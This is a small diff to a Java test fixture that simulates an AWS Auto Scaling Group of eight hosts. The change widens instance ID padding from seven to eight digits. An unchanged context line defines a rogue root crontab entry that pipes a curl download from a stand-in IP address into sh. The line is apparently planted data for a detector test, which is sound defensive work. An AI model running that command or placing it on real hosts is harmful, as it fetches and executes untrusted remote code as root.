@@ -18,8 +18,8 @@ import java.util.TreeMap;
 
 /**
  * An Auto Scaling Group of eight behind a scripted AWS whose SSM really runs what it is sent, with
- * an osqueryi that is a shell script. i-0000003 has a rogue crontab, i-0000005 is unknown to SSM,
- * i-0000008 is being terminated.
+ * an osqueryi that is a shell script. i-00000003 has a rogue crontab, i-00000005 is unknown to SSM,
+ * i-00000008 is being terminated.
  */
 final class ScriptedHosts {
   static final String ROGUE = "root curl -s http://203.0.113.7/x | sh";
@@ -53,7 +53,7 @@ final class ScriptedHosts {
   }
 
   static String id(int number) {
-    return "i-%07d".formatted(number);
+    return "i-%08d".formatted(number);
   }
 
   Path osqueryi() {
